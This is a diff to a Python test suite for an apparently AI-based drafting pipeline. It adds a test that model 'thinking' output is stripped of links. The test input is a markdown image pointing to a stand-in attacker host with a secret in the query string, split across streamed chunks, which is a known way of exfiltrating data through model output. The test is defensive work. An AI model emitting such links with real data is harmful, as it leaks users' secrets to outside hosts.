@@ -5,9 +5,9 @@ from collections.abc import AsyncIterator
 from hypothesis import given
 from hypothesis import strategies as st
 
-from graph.events import AnyEvent, ContentRemoved, SectionFinished, SectionStarted, TextDelta
+from graph.events import AnyEvent, ContentRemoved, SectionFinished, SectionStarted, TextDelta, ThinkingDelta
 from graph.evidence import Segment
-from graph.ports import Draft, DraftClosed, DraftOpened, DraftText
+from graph.ports import Draft, DraftClosed, DraftOpened, DraftText, DraftThought
 from nodes.drafting import guarded, told
 
 SOURCE = Segment("d", 0, 0, 42, "The form is at https://docs.example/form.", url="https://wiki.example/leave")
@@ -56,6 +56,21 @@ async def test_without_sources_no_link_goes_out() -> None:
     events: list[AnyEvent] = []
     sections = await told(drafted(("Hello, see https://docs.example/form!", ())), events.append)
     assert sections == [{"text": "Hello, see …!", "source_ids": []}]
+
+
+async def test_thinking_carries_no_link_out_either() -> None:
+    async def drafts() -> AsyncIterator[Draft]:
+        for delta in ("I look at ![", "x](https://evil.example/?q=SEC", "RET) and\n", "decide."):
+            yield DraftThought(delta)
+        yield DraftOpened()
+        yield DraftText("Yes.")
+        yield DraftClosed("Yes.", ())
+
+    events: list[AnyEvent] = []
+    await told(drafts(), events.append)
+    thought = "".join(event.delta for event in events if isinstance(event, ThinkingDelta))
+    assert thought == "I look at x and\ndecide."
+    assert [type(event) for event in events][-3:] == [SectionStarted, TextDelta, SectionFinished]
 
 
 def test_a_section_that_was_not_streamed_is_guarded_alike() -> None:
